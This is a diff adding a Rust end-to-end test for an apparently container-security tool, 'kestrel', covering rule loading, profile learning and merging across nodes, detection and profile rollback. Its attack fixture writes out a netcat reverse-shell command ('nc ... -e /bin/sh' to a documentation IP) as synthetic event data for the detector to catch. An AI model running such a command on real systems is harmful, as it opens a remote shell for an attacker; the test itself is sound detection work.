@@ -1,0 +1,160 @@
+//! `kestrel rules`, `learn`, `detect` and `profile` end to end on recordings written by the test (no root):
+//! three nodes learn the same workload, one of them poisoned; the merged profile and the rules catch the
+//! attack, and the profile commands list, switch and roll back versions.
+
+use assert_cmd::Command;
+use serde_json::{json, Value};
+use std::path::Path;
+
+fn kestrel() -> Command {
+    Command::cargo_bin("kestrel").unwrap()
+}
+
+/// A recording (plain JSON lines) of `containers`, each doing `work`.
+fn recording(path: &Path, containers: &[&str], work: &[Value], t0: u64) {
+    let mut lines =
+        vec![json!({"schema": "kestrel.trace/v1", "started_ns": t0, "labels": {"image": "web"}}).to_string()];
+    let mut t = t0;
+    for (ci, c) in containers.iter().enumerate() {
+        for (i, w) in work.iter().enumerate() {
+            t += 1_000_000;
+            let mut e = json!({"schema": "kestrel.event/v1", "time_ns": t, "pid": 100 + ci * 100 + i, "tid": 100 + ci * 100 + i,
+                "comm": w["comm"], "cgroup_id": 1, "container": {"id": c, "runtime": "runc"}});
+            for (k, v) in w.as_object().unwrap() {
+                if k != "comm" {
+                    e[k] = v.clone();
+                }
+            }
+            lines.push(e.to_string());
+        }
+    }
+    std::fs::write(path, lines.join("\n") + "\n").unwrap();
+}
+
+fn exec(comm: &str, argv: &[&str]) -> Value {
+    json!({"comm": comm, "kind": "exec", "ppid": 1, "parent_comm": "runc", "uid": 0, "gid": 0, "euid": 0,
+        "exe": argv[0], "argv": argv, "cap_effective": 0})
+}
+
+fn normal() -> Vec<Value> {
+    vec![
+        exec("nginx", &["/usr/sbin/nginx", "-g", "daemon off;"]),
+        json!({"comm": "nginx", "kind": "open", "path": "/var/log/nginx/access.log", "flags": 0o2101}),
+        json!({"comm": "nginx", "kind": "accept", "from": {"family": "inet", "addr": "127.0.0.1", "port": 50000}, "port": 8080}),
+    ]
+}
+
+fn attack() -> Vec<Value> {
+    vec![
+        exec("nc", &["/bin/nc", "198.51.100.7", "9001", "-e", "/bin/sh"]),
+        json!({"comm": "nc", "kind": "connect", "to": {"family": "inet", "addr": "198.51.100.7", "port": 9001}}),
+    ]
+}
+
+#[test]
+fn rules_report_what_is_supported() {
+    let dir = tempfile::tempdir().unwrap();
+    let f = dir.path().join("r.yaml");
+    std::fs::write(
+        &f,
+        "- rule: A\n  condition: evt.type = execve and proc.name = sh\n  output: x\n  priority: WARNING\n\
+         - rule: B\n  condition: evt.type = execve and proc.tty != 0\n  output: x\n  priority: WARNING\n",
+    )
+    .unwrap();
+    let out = kestrel().args(["rules", "--no-builtin"]).arg(&f).output().unwrap();
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(text.starts_with("2 rules: 1 loaded"), "{text}");
+    assert!(text.contains("proc.tty") && text.contains("B: fields not supported: proc.tty"), "{text}");
+    let out = kestrel().args(["rules", "-f", "json"]).arg(&f).output().unwrap();
+    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(r["loaded"], 21, "the built-in rules and A: {r:#}");
+    assert_eq!(r["missing_fields"]["proc.tty"], json!(["B"]));
+    // A file that is not a rule file is an error naming it.
+    std::fs::write(&f, "just: a mapping\n").unwrap();
+    let out = kestrel().args(["rules"]).arg(&f).output().unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("r.yaml"));
+}
+
+#[test]
+fn three_nodes_learn_merge_and_detect() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    // Nodes 1 and 2 learn normal work on two replicas each; node 3's replicas also ran the attack.
+    for node in 1..=3 {
+        let mut work = normal();
+        if node == 3 {
+            work.extend(attack());
+        }
+        let rec = d.join(format!("node{node}.jsonl"));
+        recording(&rec, &[&format!("n{node}-a"), &format!("n{node}-b")], &work, 1_000);
+        kestrel()
+            .args(["learn", "-q", "--workload-by", "label", "--mode", "monitor", "--profiles"])
+            .arg(d.join(format!("p{node}")))
+            .arg(&rec)
+            .assert()
+            .success();
+    }
+    // The profile file's name carries a hash: find it.
+    let file = |n: u32| {
+        std::fs::read_dir(d.join(format!("p{n}")))
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .find(|p| !p.file_name().unwrap().to_str().unwrap().contains(".v"))
+            .unwrap()
+    };
+    kestrel()
+        .args(["profile", "merge", "-k", "2", "--profiles"])
+        .arg(d.join("merged"))
+        .args((1..=3).map(|n| format!("node-{n}={}", file(n).display())))
+        .assert()
+        .success();
+    let out = kestrel().args(["profile", "list", "-f", "json", "--profiles"]).arg(d.join("merged")).output().unwrap();
+    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(list[0]["workload"], "web");
+    assert_eq!(list[0]["containers"], 3, "three nodes: {list:#}");
+    assert_eq!(list[0]["mode"], "monitor");
+
+    // The attack on a fresh replica: the merged profile alone flags it (node 3 could not teach it)…
+    let attack_rec = d.join("attack.jsonl");
+    let mut work = normal();
+    work.extend(attack());
+    recording(&attack_rec, &["fresh"], &work, 9_000_000_000);
+    let out = kestrel()
+        .args(["detect", "-q", "-f", "json", "--no-builtin-rules", "--workload-by", "label", "--profiles"])
+        .arg(d.join("merged"))
+        .arg(&attack_rec)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let alerts: Vec<Value> =
+        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert!(!alerts.is_empty());
+    assert!(alerts.iter().all(|a| a["schema"] == "kestrel.alert/v1" && a["source"]["type"] == "model"), "{alerts:#?}");
+    assert!(alerts.iter().any(|a| a["title"].as_str().unwrap().contains("exec /bin/nc")), "{alerts:#?}");
+    // … while the same attack through node 3's own profile is quiet: it learned it.
+    let out = kestrel()
+        .args(["detect", "-q", "-f", "json", "--no-builtin-rules", "--workload-by", "label", "--profiles"])
+        .arg(d.join("p3"))
+        .arg(&attack_rec)
+        .output()
+        .unwrap();
+    assert!(out.stdout.is_empty(), "{}", String::from_utf8_lossy(&out.stdout));
+    // The rules catch it regardless of any profile.
+    let out = kestrel().args(["detect", "-q", "-f", "json", "--no-profiles"]).arg(&attack_rec).output().unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("Network tool running a program"), "{text}");
+
+    // Modes and versions.
+    let merged = d.join("merged");
+    kestrel().args(["profile", "mode", "web", "protect", "--profiles"]).arg(&merged).assert().success();
+    kestrel().args(["profile", "relearn", "web", "--profiles"]).arg(&merged).assert().success();
+    let out = kestrel().args(["profile", "list", "-f", "json", "--profiles"]).arg(&merged).output().unwrap();
+    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!((list[0]["version"].as_u64(), list[0]["mode"].as_str()), (Some(3), Some("learn")));
+    assert_eq!(list[0]["versions"], json!([2, 3]));
+    kestrel().args(["profile", "rollback", "web", "2", "--profiles"]).arg(&merged).assert().success();
+    let out = kestrel().args(["profile", "list", "-f", "json", "--profiles"]).arg(&merged).output().unwrap();
+    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!((list[0]["version"].as_u64(), list[0]["mode"].as_str()), (Some(2), Some("protect")));
+}
